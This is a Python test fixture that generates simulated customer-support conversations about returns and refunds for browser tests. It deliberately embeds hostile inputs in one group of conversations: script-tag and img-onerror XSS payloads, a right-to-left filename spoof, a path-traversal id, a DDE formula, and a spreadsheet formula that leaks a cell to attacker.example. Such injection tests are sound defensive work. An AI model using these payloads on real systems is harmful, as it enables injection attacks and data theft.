"""The shop that the browser tests are about: simulated conversations, and some that each test has for itself.

Every crafted conversation belongs to a group, which is its topic, so that a test that labels or erases touches no
other's. Texts that are hostile are so on purpose.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime
from typing import Any, Final

from runtime.simulator import Simulation
from tests.builders import HOUR, MINUTE, SECOND, Event, event, line

SIMULATED: Final = 600

ESCALATED: Final = 57
"""So many crafted English conversations about returns were escalated and rated: more than a page of the list."""

SCRIPT: Final = "<script>document.title='pwned';fetch('/v1/labels',{method:'POST'})</script>"
IMAGE: Final = '"><img src=x onerror="document.title=\'pwned\'">'
RIGHT_TO_LEFT: Final = "invoice\u202egnp.exe"
FORMULA: Final = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'
COMMAND: Final = "@SUM(1+9)*cmd|' /C calc'!A0"
LONG_NAME: Final = ("Wolfeschlegelsteinhausen" * 42)[:1_000]
STRANGE_ID: Final = "../<b>\"c'&of=other&id=x#y?%2e%2e/\u202eid"
"""An id may be any text."""

COMMENT: Final = "took two tries"
REFUNDS: Final = """This is how a refund works:
1. You print the label and send the parcel.
2. The carrier scans it; from here on you can follow it.
3. It arrives at our returns desk, which takes up to 5 days.
4. We look at what is in it within 2 days.
5. You get a message that the refund was started.
6. Your bank needs up to 3 days to show it.

What can make it take longer:
- a holiday between the days above
- a parcel without its label
- more orders in one parcel
- a gift card, which is paid back as a new card
- a card that has run out: then we ask you for another

You can see each step under "My orders"."""
"""An answer that is longer than what is shown of one at first."""
REOPENED: Final = "refund-1182"

GROUPS: Final = {
    "correcting": 3,
    "bulk": 5,
    "keyboard": 12,
    "pair": 6,
    "plain": 6,
    "erasing": 2,
    "counted": 4,
    "failing": 3,
    "clearing": 2,
}
"""Topics with so many closed, unlabelled conversations each."""


@dataclass(frozen=True)
class Shop:
    """Its events up to `now`, in the order of a producer's file. `labels`: the share of simulated ones with a label."""

    now: datetime
    labels: float = 0.1

    def lines(self) -> Iterator[bytes]:
        """Give every event as a line."""
        yield from self.seemly()
        for made in (self.escalated(), self.hostile(), self.groups()):
            yield from map(line, made)

    def seemly(self) -> Iterator[bytes]:
        """Give those events as lines that may be seen in a picture."""
        simulation = Simulation(now=self.now, seed=11, conversations=SIMULATED, labels=self.labels)
        for _, payload in simulation.events():
            yield payload
        yield from map(line, self.reopened())

    @property
    def _now(self) -> int:
        return int(self.now.timestamp() * 1_000)

    def escalated(self) -> Iterator[Event]:
        """English conversations about returns that were escalated and rated, some of the same length."""
        for number in range(ESCALATED):
            talk = _Talk(f"returns-{number:02}", self._now - 8 * HOUR - number * 97 * MINUTE)
            yield talk.started(
                topic="returns",
                subtopic=("refund", "exchange")[number % 2],
                language="en",
                channel=("web", "whatsapp", "app")[number % 3],
                device=("desktop", "mobile")[number % 2],
                location=("Leeds", "Cork", "Austin")[number % 3],
                user={"id": f"u-returns-{number}", "name": f"Sam {chr(65 + number % 26)}."},
            )
            yield talk.said("user", f"How do I send order {4000 + number} back?")
            yield talk.said("assistant", "I am not sure that I understood.", confidence=0.2 + 0.5 * (number % 3 > 0))
            yield talk.did("escalated", to="returns desk", reason="asked for a person")
            yield talk.did("assigned", assigned_to="rachel.m", team="returns desk")
            yield talk.said("agent", "A label to print is on its way to you.")
            comment = {"comment": f"slow, order {4000 + number}"} if number % 4 == 0 else {}
            yield talk.did("rated", rating=1 + number % 5, **comment)
            talk.at += (number * 37 % 29) * MINUTE
            yield talk.did("ended", reason="resolved")

    def hostile(self) -> Iterator[Event]:
        """Conversations whose every text tries something."""
        texts = {"script": SCRIPT, "image": IMAGE, "formula": FORMULA, "command": COMMAND, "rtl": RIGHT_TO_LEFT}
        names = [*texts.items(), ("long", LONG_NAME)]
        for number, (name, text) in enumerate(names):
            talk = _Talk(STRANGE_ID if name == "script" else f"hostile-{name}", self._now - 30 * HOUR - number * HOUR)
            yield talk.started(
                topic="hostile",
                subtopic=text,
                language="en",
                channel=text,
                device="desktop",
                location=text,
                user={"id": text, "name": text},
                attributes={text[:60]: text, "plan": "plus"},
            )
            yield talk.said("user", f"{text} refund?")
            yield talk.said("assistant", text, confidence=0.9)
            yield talk.did("escalated", to=text, reason=text)
            yield talk.did("assigned", assigned_to=text, team=text)
            yield talk.did("rated", rating=3, comment=text)
            yield talk.did("ended", reason=text)

    def reopened(self) -> Iterator[Event]:
        """The conversation of a refund: fallback, silence, reopening, hand-over, rating with a comment, label."""
        talk = _Talk(REOPENED, self._now - 50 * HOUR)
        yield talk.started(
            topic="refunds",
            language="en",
            channel="web",
            device="mobile",
            location="Madrid",
            user={"id": "u-811", "name": "Ines R."},
            attributes={"plan": "plus", "order": 1182},
        )
        yield talk.said("user", "Where is my refund for order 1182?")
        misunderstood = talk.said("assistant", "I am not sure that I understood.", confidence=0.21)
        yield misunderstood
        yield talk.said("user", "My refund. Order 1182. I sent the shoes back two weeks ago.")
        yield talk.said("assistant", REFUNDS, confidence=0.71, sources=2)
        talk.at += 5 * HOUR
        yield talk.said("user", "hello? my refund")
        yield talk.did("escalated", to="returns desk", reason="asked for a person")
        yield talk.did("assigned", assigned_to="agent 7", team="returns desk")
        yield talk.said("agent", "I can see it, it was sent on Friday.")
        yield talk.said("user", "Thank you")
        yield talk.did("rated", rating=2, comment=COMMENT)
        yield talk.did("ended", reason="resolved")
        talk.at += 2 * HOUR
        yield talk.labelled(
            label="negative",
            by="m.duarte",
            reason="the refund was on its way",
            correction="I can see it: it was sent on Friday and takes three working days.",
            message_id=misunderstood["id"],
            seen_messages=6,
        )

    def groups(self) -> Iterator[Event]:
        """Short conversations to be labelled, each group for one test."""
        for place, (topic, count) in enumerate(GROUPS.items()):
            for number in range(count):
                talk = _Talk(f"{topic}-{number:02}", self._now - (60 + place) * HOUR + number * 3 * MINUTE)
                yield talk.started(
                    topic=topic,
                    language=("en", "es")[number % 2] if topic == "counted" else "en",
                    channel="web",
                    location="Leeds",
                    user={"id": f"u-{topic}-{number}", "name": "Kim O."},
                )
                yield talk.said("user", f"What about {topic} number {number}?")
                yield talk.said("assistant", f"The answer about {topic} number {number}.", confidence=0.8, sources=1)
                yield talk.said("user", "And how long does that take?")
                yield talk.said("assistant", "Three days.", confidence=0.8, sources=1)
                yield talk.did("ended", reason="resolved")


class _Talk:
    """A conversation while it is written: each event some seconds after the one before."""

    def __init__(self, name: str, at: int) -> None:
        self.name = name
        self.at = at
        self._count = 0

    def started(self, **fields: Any) -> Event:
        return self._next("conversation.started", **fields)

    def said(self, role: str, text: str, **fields: Any) -> Event:
        return self._next("message.sent", role=role, text=text, **fields)

    def did(self, what: str, **fields: Any) -> Event:
        return self._next(f"conversation.{what}", **fields)

    def labelled(self, **fields: Any) -> Event:
        return self._next("label.set", **fields)

    def _next(self, type: str, **fields: Any) -> Event:  # noqa: A002
        self._count += 1
        self.at += 11 * SECOND
        return event(type, id=f"{hash_of(self.name)}-{self._count}", conversation_id=self.name, at=self.at, **fields)


def hash_of(name: str) -> str:
    """A short name for ids of events, since a conversation's own may be longer than an event's id."""
    return "".join(letter for letter in name if letter.isascii() and (letter.isalnum() or letter == "-"))[:60]
